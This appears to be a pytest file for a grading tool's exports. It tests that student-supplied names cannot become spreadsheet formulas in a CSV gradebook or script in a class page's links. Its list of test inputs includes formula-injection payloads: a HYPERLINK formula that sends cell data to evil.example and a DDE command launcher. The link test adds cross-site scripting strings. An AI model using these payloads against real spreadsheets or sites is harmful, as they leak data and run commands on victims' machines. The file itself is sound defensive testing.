"""The class page and the gradebook: what a student chose there is text, to a browser and to a spreadsheet."""

import csv
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.model import Sheet, Standing
from grader.reports.class_page import to_index
from grader.reports.export_rows import ExportOptions
from grader.reports.gradebook_csv import to_gradebook
from grader.text.sanitise import csv_cell

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0\u3000=1",
    '"=1"',
    '" "=1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",
    "ann;=1+1",
    'ann; "=1+1;"',
    'ann";=1+1',
    "ann,=1+1",
    "ann;;@a;x;+1",
]


def sheet_of(*reports):
    """Return a class of these reports, without a roster."""
    return Sheet("Class", 100.0, tuple(map(Standing, reports)))


def seen(text, delimiter, *, quotes=True):
    """Read a CSV as a spreadsheet of some country does; without quotes, as one that does not know them."""
    mode = csv.QUOTE_MINIMAL if quotes else csv.QUOTE_NONE
    return list(csv.reader(text.splitlines(), delimiter=delimiter, quoting=mode))


def is_formula(text):
    """Return whether a cell's text would be computed, once spaces and quotes before it are stripped."""
    bare = re.sub(r'^[\s"]+', "", text)
    return bare.startswith((*"=+-@", *"\uff1d\uff0b\uff0d\uff20", *"\ufe66\ufe62\ufe63\ufe6b", "\u2212"))


def _assert_no_formula(report):
    text = to_gradebook(sheet_of(report, report), ExportOptions())
    assert len(seen(text, ",")) == 3
    for delimiter in ",;\t":
        for quotes in (True, False):
            found = [one for row in seen(text, delimiter, quotes=quotes) for one in row if is_formula(one)]
            assert found == [], (delimiter, quotes)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(sample, text):
    """Name and path begin no formula, wherever a spreadsheet's country parts the cells, and stay one row."""
    assert any(map(is_formula, re.split("[,;]", text)))  # what is not neutralised would be found
    _assert_no_formula(replace(sample, submission=text, source=text))
    _assert_no_formula(replace(sample, source=f"class/{text}"))


@given(text=st.text(";,=+-@\"' \t\r\n\uff1d\u2003ab", max_size=12) | st.text(max_size=20))
def test_no_text_at_all_is_a_formula(sample, text):
    """The same for texts that nobody thought of."""
    _assert_no_formula(replace(sample, submission=text, source=text))


def test_what_is_no_formula_stays_as_it_is():
    """Names as people and course platforms write them are not touched; what is neutralised can still be read."""
    for name in ("ann", "Zoë Ó'Hara-Smith", "class/doe_1_2_net-1.ipynb", "a=b", "x; y, z", "1-2", "'=1", ""):
        assert csv_cell(name) == name
    assert csv_cell("=1+1;-2") == "'=1+1;'-2"


def test_a_link_on_the_class_page_leads_to_the_report(sample):
    """A name with characters of an address, or with half a character, is written as part of a path."""
    for name, written in (
        ("a b#c?d%", "a%20b%23c%3Fd%25"),
        ("javascript:alert(1)", "javascript%3Aalert%281%29"),
        ('"><script>', "%22%3E%3Cscript%3E"),
        ("\ud800", "%3F"),
    ):
        page = to_index(sheet_of(replace(sample, submission=name)))
        links = {link for link in re.findall(r'href="([^"]*)"', page) if not link.startswith("#")}
        assert links == {f"submissions/{written}/report.html"}
        assert page.count("<script") == 1
